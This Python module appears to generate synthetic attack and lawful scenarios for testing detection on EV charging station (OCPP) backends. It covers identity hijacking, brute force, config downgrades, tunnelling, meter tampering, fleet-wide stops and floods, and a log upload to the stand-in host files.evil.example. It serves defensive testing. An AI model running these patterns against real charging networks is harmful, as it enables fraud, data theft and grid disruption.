"""The same kinds of attacks in other words, orders and amounts."""
import json

from .cases import ALL, BOTH, attack, lawful
from .commands import profile, setting
from .session import Session


@attack("identity-hijack")
def the_newcomer_is_refused_while_the_station_talks(scene, version):
    station = scene.station("TRK-1", version, agent="ChargeOS/4.1").connect()
    for _ in range(4):
        scene.wait(20)
        scene.station("TRK-1", version, address="10.66.0.77", agent="curl-ws/1").handshake(
            status=409)
        scene.wait(5)
        station.heartbeat()
    return "TRK-1"


@attack("identity-hijack")
def the_thief_charges_in_the_name_of_the_station(scene, version):
    station = scene.station("TRK-2", version).connect()
    scene.wait(200)
    thief = scene.station("TRK-2", version, address="172.20.9.9", serial="FAKE-1", vendor="X",
                          model="Y").connect()
    session = Session(thief, "FREE-CARD").start().charge(3)
    station.heartbeat()
    session.stop("FREE-CARD")
    return "TRK-2"


@attack("config-security-downgrade", ("1.6",))
def a_key_in_other_letters(scene, version):
    station = scene.station("TRK-3", version).connect()
    setting(station, "securityprofile", "0")
    return station.name


@attack("config-heartbeat-disabled", ("2.0.1", "2.1"))
def one_bad_variable_among_good_ones(scene, version):
    station = scene.station("TRK-4", version).connect()
    names = [("OCPPCommCtrlr", "OfflineThreshold", "600"),
             ("OCPPCommCtrlr", "HeartbeatInterval", "0"),
             ("SampledDataCtrlr", "TxUpdatedInterval", "60")]
    data = [{"attributeValue": value, "component": {"name": component},
             "variable": {"name": name}} for component, name, value in names]
    results = [{"attributeStatus": "Accepted", "component": {"name": component},
                "variable": {"name": name}} for component, name, _ in names]
    station.command("SetVariables", {"setVariableData": data}, {"setVariableResult": results})
    return station.name


@attack("config-authorizationkey-cleartext", ("1.6",))
def a_new_password_that_is_refused(scene, version):
    station = scene.station("TRK-5", version).connect()
    setting(station, "AuthorizationKey", "topsecret-topsecret", status="Rejected")
    return station.name


@attack("datatransfer-tunnel")
def a_tunnel_from_the_backend(scene, version):
    station = scene.station("TRK-6", version).connect()
    for number in range(30):
        scene.wait(3)
        station.command("DataTransfer", {"vendorId": "shell", "data":
                                         scene.random.randbytes(2500).hex()},
                        {"status": "Accepted", "data": scene.random.randbytes(2000).hex()})
    return station.name


@attack("privacy-pan")
def a_card_number_as_a_token(scene, version):
    station = scene.station("TRK-7", version).connect()
    station.authorize("4012888888881881", status="Invalid", kind="Local")
    return station.name


@attack("privacy-pan", ("1.6",))
def a_card_number_in_parts(scene, version):
    station = scene.station("TRK-8", version).connect()
    station.call("DataTransfer", {"vendorId": "pos", "data": "card=4111-1111-1111-1111;exp=12/29"},
                 {"status": "Accepted"})
    return station.name


@attack("privacy-vin", ("1.6",))
def a_vehicle_number_in_data(scene, version):
    station = scene.station("TRK-9", version).connect()
    station.call("DataTransfer", {"vendorId": "com.auto", "messageId": "vehicle",
                                  "data": json.dumps({"vin": "WVWZZZ1KZAW000008", "soc": 40})},
                 {"status": "Accepted"})
    return station.name


@attack("privacy-email", ("2.0.1",))
def an_address_in_a_message_to_the_display(scene, version):
    station = scene.station("TRK-10", version).connect()
    station.command("SetDisplayMessage", {"message": {
        "id": 1, "priority": "NormalCycle", "message": {
            "format": "UTF8", "content": "Receipt sent to anna.schmidt@posteo.example.de"}}})
    return station.name


@attack("session-zero-energy", ("1.6",))
def no_energy_and_no_readings(scene, version):
    station = scene.station("TRK-11", version).connect()
    session = Session(station, "CARD-1").start()
    scene.wait(2700)
    session.stop("CARD-1")
    return station.name


@attack("session-meter-backwards", ("1.6",))
def the_next_session_begins_lower(scene, version):
    station = scene.station("TRK-12", version).connect()
    Session(station, "CARD-1", register_wh=90_000).start().charge(6).stop("CARD-1")
    scene.wait(300)
    Session(station, "CARD-2", register_wh=61_000).start().charge(6).stop("CARD-2")
    return station.name


@attack("session-energy-impossible")
def energy_in_kwh_that_is_too_much(scene, version):
    station = scene.station("TRK-13", version).connect()
    session = Session(station, "CARD-1", power_w=3_700).start()
    for _ in range(6):
        scene.wait(300)
        session.register_wh += 25_000
        session.meter()
    session.stop("CARD-1")
    return station.name


@attack("session-idtag-concurrent", ("1.6",))
def the_card_in_other_letters(scene, version):
    one = scene.station("TRK-14", version).connect()
    two = scene.station("TRK-15", version).connect()
    first = Session(one, "04aabbccdd").start().charge(3)
    second = Session(two, "04AABBCCDD").start().charge(3)
    first.register_wh += 600
    first.meter()
    second.stop("04AABBCCDD")
    first.stop("04aabbccdd")
    return two.name


@attack("grid-mass-profile-max", ("2.0.1",))
def everybody_gets_all_in_watts(scene, version):
    stations = [scene.station(f"TRX-{n}", version).connect() for n in range(10)]
    for station in stations:
        scene.wait(0.6)
        station.command("SetChargingProfile",
                        profile(version, 999_999, "W", "ChargingStationMaxProfile"))


@attack("grid-mass-remote-stop")
def a_fleet_is_stopped_over_a_minute(scene, version):
    stations = [scene.station(f"TRS-{n}", version).connect() for n in range(16)]
    sessions = [Session(station, f"U-{n:03}").start() for n, station in enumerate(stations)]
    scene.wait(240)
    for session in sessions:
        scene.wait(3.5)
        if session.station.v2:
            session.station.command("RequestStopTransaction", {"transactionId": session.id})
        else:
            session.station.command("RemoteStopTransaction", {"transactionId": session.number})
        session.register_wh += 700
        session.stop(reason="Remote")


@attack("grid-mass-unavailable", ("1.6",))
def connectors_out_of_service_one_by_one(scene, version):
    stations = [scene.station(f"TRU-{n}", version).connect() for n in range(12)]
    for station in stations:
        for connector in (1, 2):
            scene.wait(0.7)
            station.command("ChangeAvailability", {"connectorId": connector, "type": "Inoperative"})


@attack("dos-message-flood", ("1.6",))
def readings_without_end(scene, version):
    station = scene.station("TRK-17", version).connect()
    session = Session(station, "CARD-1").start()
    for _ in range(700):
        scene.wait(0.01)
        session.meter()
    return station.name


@attack("dos-message-flood", ("2.0.1",))
def events_without_end(scene, version):
    station = scene.station("TRK-18", version).connect()
    for number in range(700):
        scene.wait(0.01)
        station.call("NotifyEvent", {"generatedAt": scene.time(), "seqNo": 0, "eventData": [{
            "eventId": number, "timestamp": scene.time(), "trigger": "Periodic", "actualValue": "1",
            "eventNotificationType": "CustomMonitor", "component": {"name": "EVSE"},
            "variable": {"name": "Power"}}]})
    return station.name


@attack("transaction-replay", ALL)
def a_start_is_replayed_at_another_station(scene, version):
    one = scene.station("TRK-19", version).connect()
    two = scene.station("TRK-20", version).connect()
    session = Session(one, "CARD-1").start().charge(3)
    action = "TransactionEvent" if one.v2 else "StartTransaction"
    two.call(action, session.start_payload, {"transactionId": 5, "idTagInfo": {
        "status": "Accepted"}} if not two.v2 else {"idTokenInfo": {"status": "Accepted"}})
    return two.name


@attack("firmware-unsigned", ("1.6",))
def an_unsigned_update_by_ftp(scene, version):
    station = scene.station("TRK-21", version).connect()
    station.command("UpdateFirmware", {"location": "ftp://user:pw@10.2.2.2/fw.bin", "retries": 3,
                                       "retrieveDate": scene.time(3600)}, {})
    return station.name


@attack("firmware-invalid-signature", ("2.0.1",))
def a_security_event_says_the_signature_is_wrong(scene, version):
    station = scene.station("TRK-22", version).connect()
    station.call("SecurityEventNotification", {"type": "InvalidFirmwareSignature",
                                               "timestamp": scene.time()})
    return station.name


@attack("certificate-unknown-root-installed", ("2.0.1",))
def a_manufacturer_root_nobody_knows(scene, version):
    station = scene.station("TRK-23", version).connect()
    station.command("InstallCertificate", {"certificateType": "ManufacturerRootCertificate",
                    "certificate": "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmg\n"
                    "-----END CERTIFICATE-----\n"})
    return station.name


@attack("unlock-while-charging", ("1.6",))
def unlocked_while_the_car_pauses(scene, version):
    station = scene.station("TRK-24", version).connect()
    session = Session(station, "CARD-1").start().charge(5)
    station.status("SuspendedEV")
    station.command("UnlockConnector", {"connectorId": 1}, {"status": "Unlocked"})
    session.stop(reason="UnlockCommand")
    return station.name


@lawful(BOTH)
def many_stations_with_a_clock_of_their_own(scene, version):
    for n in range(6):
        station = scene.station(f"TZN-{n}", version).handshake().boot()
        payload = {"timestamp": scene.time(7200)}
        payload |= ({"evseId": 1, "connectorId": 1, "connectorStatus": "Available"} if station.v2
                    else {"connectorId": 1, "errorCode": "NoError", "status": "Available"})
        station.call("StatusNotification", payload)
        scene.wait(30)


@attack("remote-start-flood")
def remote_starts_over_the_fleet(scene, version):
    stations = [scene.station(f"TRF-{n}", version).connect() for n in range(15)]
    for n, station in enumerate(stations):
        scene.wait(0.8)
        if station.v2:
            station.command("RequestStartTransaction", {
                "remoteStartId": n, "evseId": 1, "idToken": {"idToken": "ATTACK-1",
                                                             "type": "Central"}})
        else:
            station.command("RemoteStartTransaction", {"connectorId": 1, "idTag": "ATTACK-1"})


@attack("log-upload-unknown-host", ("2.1",))
def logs_by_sftp_with_a_user(scene, version):
    station = scene.station("TRK-25", version).connect()
    station.command("GetLog", {"logType": "DiagnosticsLog", "requestId": 2, "log": {
        "remoteLocation": "sftp://drop:box@files.evil.example/in/"}}, {"status": "Accepted"})
    return station.name


@attack("weak-password", ("2.0.1",))
def a_short_password(scene, version):
    scene.station("TRK-26", version).connect(password="12345678")
    return "TRK-26"


@attack("auth-bruteforce", ("2.0.1",))
def passwords_are_tried_slowly(scene, version):
    for number in range(30):
        scene.station("TRK-27", version, address="198.51.100.50").handshake(
            status=401, password=f"Charger-{number}-{scene.random.getrandbits(32)}")
        scene.wait(9)
    return "TRK-27"


@attack("identity-enumeration", ("1.6",))
def names_are_counted_up_slowly(scene, version):
    for number in range(40):
        scene.station(f"DE*ABC*E{number:05}", version, address="198.51.100.51",
                      path="/steve/websocket/CentralSystemService/").handshake(status=404)
        scene.wait(7)
